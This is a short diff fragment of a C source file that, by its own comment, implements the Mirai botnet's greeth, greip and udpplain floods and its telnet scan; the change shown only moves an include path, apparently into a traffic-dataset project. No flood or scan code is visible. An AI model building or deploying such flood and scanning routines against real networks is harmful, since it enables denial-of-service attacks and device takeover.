@@ -1,6 +1,6 @@
 /* Mirai's greeth, greip and udpplain floods, with its telnet scan. */
 #include "datasets/network.h"
-#include "flood.h"
+#include "datasets/traffic/flood.h"
 
 enum {
     PAYLOAD = 512,
